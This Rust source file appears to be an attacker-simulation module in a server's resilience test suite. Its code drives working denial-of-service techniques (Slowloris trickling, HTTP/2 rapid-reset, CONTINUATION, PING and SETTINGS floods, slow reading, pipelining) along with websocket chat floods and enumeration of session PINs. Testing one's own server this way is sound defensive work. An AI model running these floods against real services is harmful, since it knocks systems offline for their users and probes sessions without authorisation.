//! Sockets of an attacker: each is opened in one of many bad ways, and kept as long as it is let.

use std::{
    net::{Ipv6Addr, SocketAddr},
    time::Duration,
};

use futures_util::SinkExt as _;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time::sleep,
};
use tokio_tungstenite::{
    client_async,
    tungstenite::{Message, client::IntoClientRequest as _},
};
use uuid::Uuid;

use crate::{
    calls::{connect, next_text, say},
    http2,
    streams::stream,
};

const WRONG: &str = "000-00-0000";
const WATCH: &str = r#"{"type":"watch","key":"x"}"#;
const PRESENT: &str = r#"{"type":"present","stream":"x"}"#;

pub async fn one(addr: SocketAddr, from: Ipv6Addr, n: u32, pin: &str) {
    let page = Uuid::from_u128(n.into());
    let hello = |pin, rest| {
        format!(r#"{{"type":"hello","session_pin":"{pin}","page":"{page}","name":"A",{rest}}}"#)
    };
    match n % 18 {
        0 => silent(from, addr, b"").await,
        1 => trickle(from, addr).await,
        2 => silent(from, addr, b"POST /api/v1/x/roster HTTP/1.1\r\nhost: x\r\n").await,
        3 => live(from, addr, hello(WRONG, r#""side":"viewers""#)).await,
        4 => live(from, addr, hello(pin, r#""side":"viewers""#)).await,
        5 => live(from, addr, hello(pin, r#""side":"presenter","companion":true"#)).await,
        6 => drop(say(from, addr, "/screen", WATCH.to_owned()).await),
        7 => drop(say(from, addr, "/screen", PRESENT.to_owned()).await),
        8 => events(from, addr).await,
        9 => {
            let resets = |round| http2::rapid_resets(addr, round);
            flood(from, addr, &http2::start(65_535), resets).await;
        }
        10 => {
            let streams = |round| http2::many_streams(addr, round);
            flood(from, addr, &http2::start(0), streams).await;
        }
        11 => {
            let first = http2::headers_begun(addr);
            flood(from, addr, &first, |_| http2::continuations()).await;
        }
        12 => flood(from, addr, &http2::start(65_535), |_| http2::pings()).await,
        13 => flood(from, addr, &http2::start(65_535), |_| http2::settings()).await,
        14 => slow_reader(from, addr).await,
        15 => flood(from, addr, b"", |_| pipelined(addr)).await,
        16 => flood(from, addr, b"GET / HTTP/1.1\r\nx: ", |_| vec![b'y'; 4096]).await,
        _ => screen(from, addr).await,
    }
}

pub async fn silent(from: Ipv6Addr, addr: SocketAddr, first: &[u8]) {
    let Ok(mut stream) = connect(from, addr).await else { return };
    let _ = stream.write_all(first).await;
    let _ = stream.read(&mut [0; 64]).await;
}

/// A byte of a body at a time.
pub async fn trickle(from: Ipv6Addr, addr: SocketAddr) {
    let Ok(mut stream) = connect(from, addr).await else { return };
    let head =
        format!("POST /api/v1/x/roster HTTP/1.1\r\nhost: {addr}\r\ncontent-length: 99\r\n\r\n");
    let _ = stream.write_all(head.as_bytes()).await;
    while stream.write_all(b" ").await.is_ok() {
        sleep(Duration::from_secs(1)).await;
    }
}

/// Says more, round by round, without end, reading whatever is answered, as long as it is taken.
async fn flood(
    from: Ipv6Addr,
    addr: SocketAddr,
    first: &[u8],
    mut more: impl FnMut(u32) -> Vec<u8>,
) {
    let Ok(stream) = connect(from, addr).await else { return };
    let (mut read, mut write) = stream.into_split();
    let says = async {
        let mut taken = write.write_all(first).await;
        let mut round = 0;
        while taken.is_ok() {
            taken = write.write_all(&more(round)).await;
            round += 1;
        }
    };
    let hears = async { tokio::io::copy(&mut read, &mut tokio::io::sink()).await };
    tokio::select! {
        () = says => {}
        _ = hears => {}
    }
}

fn pipelined(addr: SocketAddr) -> Vec<u8> {
    let one = format!("GET /api/v1/regions HTTP/1.1\r\nhost: {addr}\r\n\r\n");
    one.repeat(100).into_bytes()
}

/// Asks for a page, and takes it a byte at a time.
pub async fn slow_reader(from: Ipv6Addr, addr: SocketAddr) {
    let Ok(mut stream) = connect(from, addr).await else { return };
    let ask = format!("GET /view HTTP/1.1\r\nhost: {addr}\r\n\r\n");
    let _ = stream.write_all(ask.repeat(50).as_bytes()).await;
    while let Ok(1) = stream.read(&mut [0]).await {
        sleep(Duration::from_millis(100)).await;
    }
}

/// Asks for answers of which it takes nothing, as many as a connection may have.
pub async fn stuck_streams(from: Ipv6Addr, addr: SocketAddr) {
    let Ok(mut stream) = connect(from, addr).await else { return };
    let asked = [http2::start(0), http2::many_streams(addr, 0)].concat();
    let _ = stream.write_all(&asked).await;
    let _ = tokio::io::copy(&mut stream, &mut tokio::io::sink()).await;
}

/// Joins if it is let, and chats as fast as it is answered.
async fn live(from: Ipv6Addr, addr: SocketAddr, hello: String) {
    let Some((mut socket, _)) = say(from, addr, "/live", hello).await else { return };
    loop {
        let chat = r#"{"type":"chat","name":"A","body":"B"}"#;
        if socket.send(chat.into()).await.is_err() || next_text(&mut socket).await.is_none() {
            return;
        }
    }
}

/// Follows sessions that there aren't.
async fn events(from: Ipv6Addr, addr: SocketAddr) {
    let Ok(stream) = connect(from, addr).await else { return };
    let url = format!("ws://{addr}/api/v1/x/events");
    let mut request = url.into_client_request().unwrap();
    let key = "a-key-of-the-attackers-own".parse().unwrap();
    request.headers_mut().insert("deskhand-console", key);
    let Ok((mut socket, _)) = client_async(request, stream).await else { return };
    let follow = (0..1_000)
        .map(|n| format!(r#"{{"session_pin":"{:03}-00-{:04}","chat_after":0}}"#, n % 1_000, n));
    let follow = follow.collect::<Vec<_>>().join(",");
    let follow = format!(r#"{{"type":"follow","sessions":[{follow}]}}"#);
    while socket.send(Message::text(follow.clone())).await.is_ok() {
        if next_text(&mut socket).await.is_none() {
            return;
        }
    }
}

/// A session of the attacker's own, with as much screen as goes through.
async fn screen(from: Ipv6Addr, addr: SocketAddr) {
    let Some(mut stream) = stream(addr, from).await else { return };
    let picture = Message::binary(vec![7; 65_536]);
    loop {
        let sent = stream.from.send(picture.clone()).await;
        if sent.is_err() || stream.next_picture().await.is_none() {
            return;
        }
    }
}
